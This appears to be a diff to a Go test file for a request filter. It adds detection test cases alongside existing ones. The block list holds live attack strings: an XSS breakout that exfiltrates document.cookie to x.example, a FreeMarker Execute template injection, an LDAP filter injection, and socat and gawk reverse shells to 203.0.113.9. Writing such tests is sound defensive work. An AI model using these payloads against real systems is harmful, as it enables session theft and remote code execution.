@@ -117,6 +117,9 @@ var recallBlock = []struct {
 	{"ldap absolute true filter", query("uid", "admin)(&)")},
 	{"freemarker class built in a comment", post("application/json", `{"comment":"great post <#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")} thanks for sharing it with us"}`)},
 
+	{"script string breakout with a call", query("id", "'-alert(1)-'")},
+	{"script string breakout reading the cookie", query("name", `"+fetch('//x.example/'+document.cookie)+"`)},
+
 	// Shells and scripts handed to a network peer, whole values.
 	{"socat program address", query("host", "socat TCP:203.0.113.9:9001 EXEC:bash")},
 	{"gawk network file", post("application/json", `{"target":"awk 'BEGIN{s=\"/inet/tcp/0/203.0.113.9/9001\";while(1){s|&getline c;print c|&s}}'"}`)},
@@ -140,6 +143,7 @@ var recallGrey = []struct {
 	{"commented line reading the cookie", post("application/json", `{"code":"const c = document.cookie; /* session */"}`)},
 	{"double extension upload name", withHeaders("X-File-Name", "index.php.png")},
 	{"log files by glob", query("path", "/var/log/nginx/*.log")},
+	{"quoted concatenation without a call", query("expr", `"-" + x + "-"`)},
 	{"glob with a trailing star", post("application/json", `{"t":"match 'src/*' and \"https://*/*\",\n\"storage\"\n]"}`)},
 }
 
@@ -169,6 +173,8 @@ var recallBenign = []struct {
 	{"session-like upload name too short", withHeaders("X-File-Name", "sess_notes.txt")},
 	{"exec prefix in a config key", query("q", "exec:shutdown-hook")},
 	{"ldap filter with an empty and", query("filter", "(&)")},
+	{"quoted alternatives", query("sort", `'name' | 'date'`)},
+	{"quoted call without operators at both ends", query("title", `"Hello (world)"`)},
 	{"freemarker new explained in prose", post("application/json", `{"comment":"In FreeMarker the ?new() built-in creates an object of a TemplateModel class; the docs list which classes are allowed by default"}`)},
 	{"powershell cradle explained in markdown", post("application/json", `{"body":"## Detecting cradles\n\nAttackers often run `+"`IEX(New-Object Net.WebClient).DownloadString(url)`"+` to fetch a script; log PowerShell script blocks to see it.\n"}`)},
 }
